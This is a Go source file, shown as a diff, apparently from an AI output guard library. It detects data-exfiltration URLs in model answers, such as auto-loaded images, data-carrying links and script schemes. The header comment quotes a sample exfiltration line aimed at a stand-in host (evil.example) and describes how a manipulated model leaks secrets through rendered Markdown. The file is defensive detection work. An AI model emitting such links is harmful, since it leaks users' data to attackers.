@@ -1,0 +1,300 @@
+// Package exfil finds addresses in answers by which a page or client that shows them would carry data away: images and other
+// parts that are loaded at once, links with data in them, and links that are scripts. A model that was talked into it writes
+// ![x](https://evil.example/?d=SECRET), and whoever renders the answer sends the secret.
+//
+//	s, err := exfil.New("docs.example.com", "*.cdn.example.com")
+//	g, err := guard.New(policy, guard.WithScanner(s.Start, exfil.IDs()...))
+//
+// What is found is the address alone: where the policy redacts, the text around it stays. Addresses that are written with
+// character references of HTML, or split by markup, are not recognised; render answers without remote content where you can.
+package exfil
+
+import (
+	"bytes"
+	"errors"
+	"fmt"
+	"math"
+	"strings"
+
+	"github.com/holdfast-ai/holdfast/guard/stream"
+)
+
+// Rules of findings.
+const (
+	RuleImage  = "exfil.image"  // an address that is loaded when it is shown, of a host that is not allowed
+	RuleLink   = "exfil.link"   // a link that carries data to a host that is not allowed
+	RuleScheme = "exfil.scheme" // javascript:, vbscript:, or data: that can hold a script
+)
+
+// Category is the OWASP LLM 2025 id of all findings: improper output handling.
+const Category = "LLM05"
+
+// IDs lists the rules.
+func IDs() []string { return []string{RuleImage, RuleLink, RuleScheme} }
+
+// ErrHost means that an allowed host cannot be one.
+var ErrHost = errors.New("exfil: not a host")
+
+// Hosts are those that answers may refer to. The zero value allows none.
+type Hosts struct {
+	exact  map[string]bool
+	suffix []string // ".example.com"
+}
+
+// New allows hosts by name, "*." before a name for all below it. Errors: [ErrHost].
+func New(hosts ...string) (*Hosts, error) {
+	h := &Hosts{exact: make(map[string]bool)}
+	for _, name := range hosts {
+		below := strings.HasPrefix(name, "*.")
+		bare := strings.ToLower(strings.TrimPrefix(name, "*."))
+		if bare == "" || strings.ContainsAny(bare, "/:@*\\?# ") || strings.HasPrefix(bare, ".") || !strings.Contains(bare, ".") && bare != "localhost" {
+			return nil, fmt.Errorf("%w: %q", ErrHost, name)
+		}
+		if below {
+			h.suffix = append(h.suffix, "."+bare)
+		} else {
+			h.exact[bare] = true
+		}
+	}
+	return h, nil
+}
+
+// allows reports whether a host is one of those, whatever its case.
+func (h *Hosts) allows(host string) bool {
+	host = strings.TrimSuffix(strings.ToLower(host), ".")
+	if h.exact[host] {
+		return true
+	}
+	for _, s := range h.suffix {
+		if strings.HasSuffix(host, s) {
+			return true
+		}
+	}
+	return false
+}
+
+// Start returns a scanner of one text; see [stream.Scanner]. It holds back the word in progress.
+func (h *Hosts) Start() stream.Scanner { return &follower{hosts: h} }
+
+const (
+	// maxWord bounds an address in bytes; the rest of a longer one is a word of its own.
+	maxWord = 4096
+	// maxBefore is how far before an address its use is looked for, in bytes: attributes of a tag may stand between.
+	maxBefore = 256
+)
+
+// follower cuts a text into words, in which addresses stand.
+type follower struct {
+	hosts  *Hosts
+	pos    int // of the word in progress
+	word   []byte
+	before []byte
+}
+
+// ends has the bytes that no address contains, where it is not between quotes.
+var ends = func() (t [256]bool) {
+	for _, c := range []byte(" \t\r\n\f\"'<>`()[]{}|,") {
+		t[c] = true
+	}
+	return t
+}()
+
+// Write implements [stream.Scanner]. The error is nil.
+func (f *follower) Write(ms []stream.Match, p []byte) (matches []stream.Match, held int, err error) {
+	for len(p) > 0 {
+		n := 0
+		for n < len(p) && !ends[p[n]] && len(f.word)+n < maxWord {
+			n++
+		}
+		f.word = append(f.word, p[:n]...)
+		p = p[n:]
+		if len(p) == 0 {
+			break
+		}
+		ms = f.flush(ms)
+		if ends[p[0]] {
+			f.pass(p[:1])
+			p = p[1:]
+		}
+	}
+	return ms, len(f.word), nil
+}
+
+// Finish implements [stream.Scanner]. The error is nil.
+func (f *follower) Finish(ms []stream.Match) ([]stream.Match, error) { return f.flush(ms), nil }
+
+func (f *follower) pass(p []byte) {
+	f.pos += len(p)
+	if len(p) > maxBefore {
+		p = p[len(p)-maxBefore:]
+	}
+	if len(f.before)+len(p) > 4*maxBefore {
+		f.before = f.before[:copy(f.before, f.before[len(f.before)-maxBefore:])]
+	}
+	f.before = append(f.before, p...)
+}
+
+// flush looks at the word and ends it.
+func (f *follower) flush(ms []stream.Match) []stream.Match {
+	if len(f.word) == 0 {
+		return ms
+	}
+	if rule, from := f.judge(); rule != "" {
+		ms = append(ms, stream.Match{Rule: rule, Category: Category, Start: f.pos + from, End: f.pos + len(f.word)})
+	}
+	f.pass(f.word)
+	f.word = f.word[:0]
+	return ms
+}
+
+// judge says what is wrong with the address in the word, and where it begins.
+func (f *follower) judge() (rule string, from int) {
+	w := f.word
+	if from, script := scheme(w); script {
+		return RuleScheme, from
+	}
+	host, rest, from, ok := address(w, f.before)
+	if !ok || f.hosts.allows(host) {
+		return "", 0
+	}
+	if f.loaded(from) {
+		return RuleImage, from
+	}
+	if carries(host, rest) {
+		return RuleLink, from
+	}
+	return "", 0
+}
+
+// scheme looks for schemes that run what they hold.
+func scheme(w []byte) (from int, script bool) {
+	for _, s := range [...]string{"javascript:", "vbscript:", "data:text/html", "data:image/svg", "data:application/"} {
+		if i := indexFold(w, s); i >= 0 && (i == 0 || !letter(w[i-1])) && len(w) > i+len(s) {
+			return i, true
+		}
+	}
+	return 0, false
+}
+
+func indexFold(w []byte, s string) int {
+	for i := 0; i+len(s) <= len(w); i++ {
+		if w[i]|0x20 == s[0] && bytes.EqualFold(w[i:i+len(s)], []byte(s)) {
+			return i
+		}
+	}
+	return -1
+}
+
+func letter(c byte) bool { return c|0x20 >= 'a' && c|0x20 <= 'z' }
+
+// slash reports whether browsers read c as a slash.
+func slash(c byte) bool { return c == '/' || c == '\\' }
+
+// address cuts an address into its host and what follows. Without a scheme ("//host/") it counts where an address is
+// expected.
+func address(w, before []byte) (host string, rest []byte, from int, ok bool) {
+	at := -1
+	for i := 0; i+2 < len(w); i++ {
+		if w[i] != ':' || !slash(w[i+1]) || !slash(w[i+2]) {
+			continue
+		}
+		for from = i; from > 0 && letter(w[from-1]); from-- {
+		}
+		if from < i {
+			at = i + 3
+			break
+		}
+	}
+	if at < 0 {
+		if len(w) < 3 || !slash(w[0]) || !slash(w[1]) || len(before) == 0 || bytes.IndexByte([]byte("(\"'=<"), before[len(before)-1]) < 0 {
+			return "", nil, 0, false
+		}
+		from, at = 0, 2
+	}
+	for at < len(w) && slash(w[at]) { // "https:///host" is "https://host" to a browser
+		at++
+	}
+	end := at
+	for end < len(w) && !slash(w[end]) && w[end] != '?' && w[end] != '#' {
+		end++
+	}
+	name := w[at:end]
+	if i := bytes.LastIndexByte(name, '@'); i >= 0 {
+		name = name[i+1:]
+	}
+	if i := bytes.IndexByte(name, ':'); i >= 0 && !bytes.HasPrefix(name, []byte("[")) {
+		name = name[:i]
+	}
+	return string(name), w[end:], from, len(name) > 0
+}
+
+// loaded reports whether the address at from in the word is loaded as soon as it is shown: of an image in Markdown, a
+// definition that images refer to, an attribute of HTML, a style sheet.
+func (f *follower) loaded(from int) bool {
+	b := append(append(make([]byte, 0, len(f.before)+from), f.before...), f.word[:from]...)
+	b = bytes.ToLower(b[max(0, len(b)-maxBefore):])
+	t := bytes.TrimRight(b, " \t\r\n\"'<")
+	switch {
+	case bytes.HasSuffix(t, []byte("](")):
+		t = t[:len(t)-2]
+		return bytes.LastIndex(t, []byte("![")) > bytes.LastIndex(t, []byte("]("))
+	case bytes.HasSuffix(t, []byte("]:")):
+		return true
+	case bytes.HasSuffix(t, []byte("url(")), bytes.HasSuffix(t, []byte("@import")):
+		return true
+	}
+	tag := bytes.LastIndexByte(b, '<')
+	if tag < 0 || bytes.IndexByte(b[tag:], '>') >= 0 {
+		return false
+	}
+	inside := b[tag:]
+	for _, a := range [...]string{"src", "srcset", "background", "poster", "data", "action", "ping", "style", "xlink:href"} {
+		if i := bytes.LastIndex(inside, []byte(a)); i > 0 && bytes.IndexByte(inside[i:], '=') >= 0 {
+			return true
+		}
+	}
+	return bytes.HasPrefix(inside, []byte("<link")) || bytes.HasPrefix(inside, []byte("<meta"))
+}
+
+const (
+	longQuery = 24  // bytes: search terms and page numbers are shorter
+	longLabel = 32  // of a host: names can carry data to whoever answers for them
+	longPath  = 160 // bytes in all
+	longPart  = 24  // of a path, if it looks random
+	random    = 3.9 // bits for each byte
+)
+
+// carries reports whether an address has room for data, or data in it.
+func carries(host string, rest []byte) bool {
+	for label := range strings.SplitSeq(host, ".") {
+		if len(label) >= longLabel {
+			return true
+		}
+	}
+	path, query, _ := bytes.Cut(rest, []byte("?"))
+	path, fragment, _ := bytes.Cut(path, []byte("#"))
+	if len(query) >= longQuery || len(fragment) >= longPath || len(path) >= longPath {
+		return true
+	}
+	for part := range bytes.SplitSeq(path, []byte("/")) {
+		if len(part) >= longPart && entropy(part) >= random {
+			return true
+		}
+	}
+	return false
+}
+
+func entropy(b []byte) float64 {
+	var count [256]int
+	for _, c := range b {
+		count[c]++
+	}
+	bits := 0.0
+	for _, n := range count {
+		if n > 0 {
+			p := float64(n) / float64(len(b))
+			bits -= p * math.Log2(p)
+		}
+	}
+	return bits
+}
